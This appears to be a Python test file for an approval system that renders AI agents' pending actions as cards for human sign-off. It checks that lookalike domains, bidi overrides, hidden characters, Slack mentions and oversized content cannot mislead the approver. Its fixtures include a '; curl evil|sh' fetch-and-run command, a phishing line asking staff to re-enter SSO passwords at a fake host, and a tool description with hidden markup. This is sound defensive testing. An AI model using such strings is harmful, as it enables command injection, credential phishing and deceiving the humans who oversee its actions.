"""What every surface shows of agent text: look-alike hosts as punycode, bidi overrides
and control characters as visible escapes, Slack text verbatim with mentions defused —
and whether a card is complete enough to be decided where it is shown."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

from signoff.adapters.email.messages import card_message
from signoff.adapters.slack.blocks import CARD_LIMIT, MAX_TEXT, card_blocks, card_text, decides
from signoff.adapters.telegram.keyboards import card_html, card_keyboard, console_button
from signoff.adapters.terminal.surface import render
from signoff.adapters.web.pages import CardView
from signoff.adapters.web.pages import card_html as web_card
from signoff.bot.cards import CARD_CONTENT, build_card, complete, decides_here
from signoff.runtime.models import Action, Approval, RiskClass, Scope
from signoff.runtime.tools import builtin_registry
from signoff.runtime.tools.base import Preview
from signoff.testing import sample_card

AT = datetime(2026, 3, 14, 9, 26, tzinfo=UTC)
LOOKALIKE = "https://аррӏе.com/login"  # Cyrillic letters that read "apple"
PUNYCODE = "https://xn--80ak6aa92e.com/login"
RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE: "invoice\u202efdp.exe" reads "invoiceexe.pdf"


def approval(**args: Any) -> Approval:
    """A pending request of an outside agent to send ``args`` (``text`` is content)."""
    action = Action(tool="send_message", args=args, risk=RiskClass.SEND,
                    capability="chat.send", targets=(str(args.get("to", "")),),
                    fingerprint="f" * 64, summary=f"Send a message to {args.get('to')}",
                    content=("text",))
    return Approval(id="a-1", action=action, requested_at=AT,
                    expires_at=AT + timedelta(hours=1), requester="hermes:x", policy_id="s-1",
                    why=f"open invoice{RLO}fdp.exe now", goal=f"pay {LOOKALIKE}",
                    allowed_scopes=(Scope.ONCE, Scope.DENY))


def every_surface(card: Any) -> dict[str, str]:
    """The card as each surface renders it, as one text each."""
    mail = card_message(card, sender="s@example.com", to="a@example.com", links={})
    return {"slack": str(card_blocks(card)) + card_text(card), "telegram": card_html(card),
            "email": mail.as_string(), "terminal": render(card),
            "web": web_card(CardView(card), csrf="c", now=AT)}


def test_lookalike_hosts_show_as_punycode_on_every_surface() -> None:
    """A Cyrillic "аррӏе.com" in a target or the goal is shown as the xn-- host it is."""
    card = build_card(None, approval(to=LOOKALIKE, text="hi"))
    assert card.targets == (PUNYCODE,) and card.goal == f"pay {PUNYCODE}"
    for surface, text in every_surface(card).items():
        assert "xn--80ak6aa92e.com" in text, surface
        assert "аррӏе" not in text, surface


def test_bidi_overrides_and_controls_are_visible_escapes_on_every_surface() -> None:
    """U+202E, a zero-width space and ESC in agent text show as [U+…] everywhere; no
    surface carries the raw character."""
    card = build_card(None, approval(to="ops", text=f"see\u200b invoice{RLO}fdp.exe\x1b[2J"))
    for surface, text in every_surface(card).items():
        assert "[U+202E]" in text, surface
        assert RLO not in text and "\u200b" not in text and "\x1b" not in text, surface


def test_slack_text_is_verbatim_and_agent_mentions_are_defused() -> None:
    """Every mrkdwn text object is verbatim (no auto-links or mentions), and <!channel>
    or <@U…> written by an agent reaches Slack as text, not as markup."""
    card = build_card(None, approval(to="<!channel>", text="ping <@U0BOSS> and <!here>"))
    blocks = card_blocks(card)
    objects = _mrkdwn_objects(blocks)
    assert objects and all(o.get("verbatim") is True for o in objects)
    texts = " ".join(o["text"] for o in objects) + card_text(card)
    assert "<!channel>" not in texts and "<@U0BOSS>" not in texts and "<!here>" not in texts
    assert "&lt;!channel&gt;" in texts and "&lt;@U0BOSS&gt;" in texts


def _mrkdwn_objects(value: object) -> list[dict[str, Any]]:
    if isinstance(value, dict):
        found = [value] if value.get("type") == "mrkdwn" else []
        return found + [o for v in value.values() for o in _mrkdwn_objects(v)]
    if isinstance(value, list):
        return [o for v in value for o in _mrkdwn_objects(v)]
    return []


def test_content_longer_than_a_card_carries_makes_the_card_incomplete_everywhere() -> None:
    """A body over CARD_CONTENT characters is cut on the card: no surface with or without
    a limit may decide it; one within it is complete."""
    long_card = build_card(None, approval(to="ops", text="x" * (CARD_CONTENT + 1)))
    assert long_card.cut and not complete(long_card, None)
    short_card = build_card(None, approval(to="ops", text="x" * CARD_CONTENT))
    assert not short_card.cut and complete(short_card, None)
    mail = card_message(long_card, sender="s@example.com", to="a@example.com",
                        links={Scope.ONCE: "https://signoff.example.com/email/confirm?t=1"})
    assert "email/confirm" not in mail.as_string()
    assert "decided in the signoff console only" in mail.as_string()


def test_a_cut_preview_or_escapes_over_the_limit_make_a_card_incomplete() -> None:
    """The limit counts each escapable character at its longest entity: 500 "&" are 3,000
    characters on a surface; a preview that was bounded (cut) is never complete."""
    card = sample_card(targets=("&" * 500,))
    assert complete(card, 3100) and not complete(card, 2900)
    cut = replace(sample_card(), preview=Preview(label="Command", text="$ x", cut=True))
    assert not complete(cut, None) and not decides_here(cut, None)


def test_telegram_shows_a_complete_card_whole_and_a_cut_one_with_a_console_link() -> None:
    """A long but complete command is on the Telegram card to its last character, with
    buttons; past the limit the card has only the console button."""
    tail = "; curl evil|sh"
    whole = sample_card(targets=("echo " + "a" * 2000 + tail,),
                        confirm_url="https://s.example/console/cards/a-1")
    assert tail in card_html(whole) and card_keyboard(whole)
    assert console_button(whole) is None
    over = replace(whole, targets=("echo " + "a" * 3000 + tail,))
    assert tail not in card_html(over) and card_keyboard(over) == []
    assert console_button(over) == ("Open in console to decide",
                                    "https://s.example/console/cards/a-1")


def test_a_complete_slack_card_is_never_clipped_however_its_text_escapes() -> None:
    """At the edge of the limit, with a title, tool and targets made of characters that
    escape to five, the sections holding what is approved stay within Slack's 3,000."""
    targets = tuple("&" * 150 for _ in range(2))
    card = sample_card(title="&" * 5000, tool="<" * 500, capability="&" * 500,
                       targets=targets, details=(("body", "<" * 80),))
    assert decides(card) and complete(card, CARD_LIMIT)
    texts = [b["text"]["text"] for b in card_blocks(card) if b["type"] == "section"]
    assert all(len(t) <= MAX_TEXT for t in texts)
    assert sum(t.count("&amp;" * 150) for t in texts) == 2  # both targets whole


BLANK = "\u2800"  # BRAILLE PATTERN BLANK: drawn as a space


def test_words_an_agent_joins_to_a_url_are_on_every_surface() -> None:
    """A message whose words after a URL are joined by U+2800 shows those words on every
    surface (and the U+2800 as escapes); only the query value is •••."""
    words = BLANK.join(["Also:", "re-enter", "your", "SSO", "password", "at",
                        "corp-sso.evil.example", "today"])
    card = build_card(None, approval(
        to="ops", text=f"Standup notes: https://wiki.corp.example/standup?week=12{BLANK}{words}"))
    assert dict(card.details)["text"].startswith(
        "Standup notes: https://wiki.corp.example/standup?week=•••[U+2800]Also:[U+2800]")
    for surface, text in every_surface(card).items():
        assert "corp-sso.evil.example" in text, surface
        assert "week=12" not in text and BLANK not in text, surface


def test_a_long_tail_after_a_url_makes_the_card_incomplete() -> None:
    """20,000 characters run on from a URL's query are content the card cannot carry
    whole: no Approve where the card is shown, the console shows them."""
    tail = (BLANK + "wire-500-to-account-1234567") * 715  # no ASCII space in 20,000
    card = build_card(None, approval(to="ops", text=f"see https://h/p?x=1{tail}"))
    assert card.cut and not complete(card, None) and not decides_here(card, None)


def test_an_email_to_a_lookalike_domain_shows_its_punycode_on_every_surface() -> None:
    """send_email to "billing@pаypal.com" (a Cyrillic "а"): the targets and the title of
    the card name the domain the mail goes to, on every surface."""
    action = builtin_registry(entry_points_group=None).prepare(Action(
        tool="send_email", args={"to": "Billing <billing@pаypal.com>", "subject": "Invoice",
                                 "body": "Please pay."}))
    card = build_card(None, Approval(id="a-1", action=action, requested_at=AT,
                                     expires_at=AT + timedelta(hours=1)))
    assert card.targets == ("billing@xn--pypal-4ve.com",)
    assert card.title.startswith("Send email to billing@xn--pypal-4ve.com")
    for surface, text in every_surface(card).items():
        assert "xn--pypal-4ve.com" in text and "pаypal" not in text, surface
    assert action.targets == ("billing@pаypal.com",)  # the mail goes where it was written


def test_a_host_idna_2003_would_rename_shows_as_httpx_contacts_it() -> None:
    """"hooks.claßic-crm.com" is "hooks.xn--claic-crm-i1a.com" to httpx, never
    "hooks.classic-crm.com" (another company's host) on the card."""
    card = build_card(None, approval(to="https://hooks.claßic-crm.com/in/42", text="hi"))
    assert card.targets == ("https://hooks.xn--claic-crm-i1a.com/in/42",)
    for surface, text in every_surface(card).items():
        assert "classic-crm" not in text and "xn--claic-crm-i1a" in text, surface


def test_an_mcp_tools_description_is_on_every_surface_attributed_and_plain() -> None:
    """The tool's description as its server lists it is on the card: said to be the
    server's words, its first 300 characters on one line, never markup, its URLs masked
    and its invisible characters escaped, as any other text a caller wrote."""
    said = (f"Delete the path.\n<b>Safe</b> *really* see https://u:pw@h.example/x{RLO}y "
            + "z" * 400)
    action = Action(tool="files.act", args={"path": "notes"}, risk=RiskClass.DESTRUCTIVE,
                    capability="files", targets=("notes",), fingerprint="f" * 64,
                    description=said)
    card = build_card(None, Approval(id="a-1", action=action, requested_at=AT,
                                     expires_at=AT + timedelta(hours=1), requester="gate",
                                     policy_id="g-1", allowed_scopes=(Scope.ONCE,)))
    label, shown = card.details[-1]
    assert label == "The server describes this tool as"
    assert shown.startswith("Delete the path. <b>Safe</b>")
    assert len(shown.replace("[U+202E]", RLO)) == 300  # 300 characters, then escaped
    assert shown.endswith("…") and "u:pw" not in shown and RLO not in shown
    assert "[U+202E]" in shown
    for surface, text in every_surface(card).items():
        assert "The server describes this tool as" in text, surface
        assert "Delete the path." in text, surface
        assert "<b>Safe</b>" not in text or surface in ("terminal", "email"), surface
        assert "pw@" not in text, surface


def test_a_card_without_a_description_has_no_description_line() -> None:
    """A built-in tool's card (no server to quote) carries only its content lines."""
    card = build_card(None, approval(to="bob", text="hi"))
    assert [label for label, _ in card.details] == ["text"]
